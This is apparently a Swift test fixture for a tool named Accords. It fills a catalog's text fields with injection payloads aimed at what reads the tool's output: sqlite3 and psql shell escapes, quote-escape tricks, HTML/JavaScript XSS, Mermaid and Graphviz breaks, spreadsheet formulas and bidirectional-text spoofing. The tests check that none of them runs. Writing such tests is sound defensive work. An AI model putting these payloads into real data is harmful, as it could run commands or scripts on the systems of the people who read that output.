import AccordsCLI
import AccordsCore
import Foundation

/// A catalog written as an attacker would write one: every text field carries payloads meant to
/// run as code in whatever reads Accords' output — the `sqlite3` and `psql` shells, SQL engines,
/// spreadsheets, Markdown renderers, Mermaid and Graphviz — or to make text read other than it
/// is. A payload that runs leaves a file in `markerFolder`; the tests check that none does and
/// that every value comes back exactly. Its one visit has the largest number and count a
/// catalog may hold (2³¹ − 1), which every output must take without overflow.
struct InjectionCatalog {
  let markerFolder: URL

  /// The payloads, each aimed at one reader. `{M}` stands for the marker folder.
  static let payloads: [String] = [
    // A line break ends a SQL comment; a dot command or a psql meta-command follows.
    "name\n.shell touch {M}/sqlite-dot\n.system touch {M}/sqlite-system\n",
    "name\r\\! touch {M}/psql-bang\r\n\\o |touch {M}/psql-pipe\n",
    // A quote followed by a combining mark is one Character: an escape that compares
    // Characters misses it, and the literal ends early.
    "it'\u{301}); \\! touch {M}/quote-combining\n-- ",
    "bs\\\u{301}'); \\! touch {M}/backslash-combining\n-- ",
    // With standard_conforming_strings off, \' is an escaped quote to PostgreSQL and psql.
    "x\\'); \\! touch {M}/backslash-quote\n-- ",
    "ends with a backslash \\",
    // Markdown and HTML.
    "</td></tr></table><script>document.title='owned'</script><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1)) ![i](javascript:alert(2)) <javascript:alert(3)> &lt;b&gt; &#106;avascript:",
    "*em* _em_ `code` ~~strike~~ | pipe \\| already escaped <br> <!-- comment -->",
    // Mermaid comments and directives; Graphviz escapes and attribute breaks.
    "%%{init: {\"securityLevel\": \"loose\"}}%% click n_x call alert(1) #quot;",
    "\\N \\G \\L \\l \\E label\" ]; evil [label=\"x\" URL=\"javascript:alert(1)\"",
    // Spreadsheet formulas.
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
    "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝1+1",
    // Text that reads other than it is.
    "\u{202E}txt.exe\u{202C} \u{2066}isolate\u{2069} zero\u{200B}width\u{2060} \u{2028}ls \u{2029}ps \u{E0041}tag",
  ]

  /// The payloads with the marker folder filled in.
  var texts: [String] {
    Self.payloads.map { $0.replacingOccurrences(of: "{M}", with: markerFolder.path) }
  }

  /// The files the payloads would make if any ran.
  var markers: [String] {
    (try? FileManager.default.contentsOfDirectory(atPath: markerFolder.path)) ?? []
  }

  /// Every payload in the dataset's name and version, a source, a region, a partnership, an
  /// area, an initiative, a figure, and a party, a person and an agreement of its own (title,
  /// summary, note, the party's wording and the signatory's office).
  var json: String {
    let texts = self.texts
    func quoted(_ text: String) -> String { JSONValue.string(text).prettyPrinted }
    let all = quoted(texts.joined(separator: " "))
    let agreements = texts.enumerated().map { index, text in
      """
      {"id": "p\(index)", "title": \(quoted(text)), "type": "mou", "date": "2020-01-0\(index % 9 + 1)",
       "signedBy": [{"person": "person\(index)", "office": \(quoted(text))}],
       "parties": [{"party": "party\(index)", "asWritten": \(quoted(text))}], "areas": ["a1"], "summary": \(quoted(text)),
       "notes": [{"kind": "context", "text": \(quoted(text))}], "sources": [{"source": "s1", "quote": \(quoted(text))}]}
      """
    }
    let parties = texts.enumerated().map { index, text in
      """
      {"id": "party\(index)", "name": \(quoted(text)), "nameJa": \(quoted(text)), "aliases": [\(quoted(text))],
       "country": "IN", "kind": "ministry", "sources": [{"source": "s1"}]}
      """
    }
    let people = texts.enumerated().map { index, text in
      """
      {"id": "person\(index)", "name": \(quoted(text)), "nameJa": \(quoted(text)), "country": "JP",
       "sources": [{"source": "s1"}]}
      """
    }
    return """
      {
        "dataset": {"name": \(quoted(texts[0])), "version": \(quoted(texts[1])), "asOf": "2026", "description": \(all)},
        "sources": [{"id": "s1", "publisher": \(all), "url": "https://example.org/a", "kind": "media"}],
        "areas": [{"id": "a1", "ordinal": 1, "name": \(quoted(texts[10])), "sources": [{"source": "s1"}]}],
        "regions": [
          {"code": "IN-KL", "name": \(quoted(texts[10])), "country": "IN", "kind": "state", "sources": [{"source": "s1"}]},
          {"code": "JP-01", "name": \(quoted(texts[9])), "country": "JP", "kind": "prefecture", "sources": [{"source": "s1"}]}
        ],
        "partnerships": [{"id": "pp", "state": "IN-KL", "prefecture": "JP-01", "kind": "mou", "title": \(quoted(texts[11])),
          "signed": "2020", "summary": \(all), "sources": [{"source": "s1"}]}],
        "visits": [{"id": "v1", "title": \(quoted(texts[9])), "ordinal": 2147483647, "start": "2020-01-01", "end": "2020-01-02",
          "places": [{"name": \(quoted(texts[1])), "region": "JP-01"}],
          "leaders": [{"person": "person6", "office": \(quoted(texts[10]))}],
          "announced": [{"count": 2147483647, "counts": "documents", "sources": [{"source": "s1"}]}],
          "summary": \(all), "sources": [{"source": "s1"}]}],
        "parties": [\(parties.joined(separator: ",\n"))],
        "people": [\(people.joined(separator: ",\n"))],
        "agreements": [\(agreements.joined(separator: ",\n"))],
        "initiatives": [{"id": "i1", "name": \(quoted(texts[7])), "areas": ["a1"], "summary": \(all), "sources": [{"source": "s1"}]}],
        "figures": [{"id": "f1", "label": \(quoted(texts[12])), "value": 1, "unit": \(quoted(texts[13])),
          "qualifier": "exactly", "kind": "reported", "sources": [{"source": "s1"}]}]
      }
      """
  }

  /// A fresh marker folder and the catalog aimed at it.
  static func make() throws -> InjectionCatalog {
    let folder = FileManager.default.temporaryDirectory.appendingPathComponent("accords-markers-\(UUID().uuidString)")
    try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
    // PostgreSQL's server and psql run as the postgres user under root; a payload that ran
    // there must be able to leave its file.
    chmod(folder.path, 0o777)
    return InjectionCatalog(markerFolder: folder)
  }

  func load() throws(CatalogError) -> Catalog {
    try CatalogLoader.load(files: [(name: "injection.json", bytes: Array(json.utf8))])
  }

  func run(_ arguments: [String], environment: ProcessEnvironment = ProcessEnvironment()) -> CommandResult {
    Accords.run(arguments: arguments, environment: environment, loadCatalog: load)
  }
}
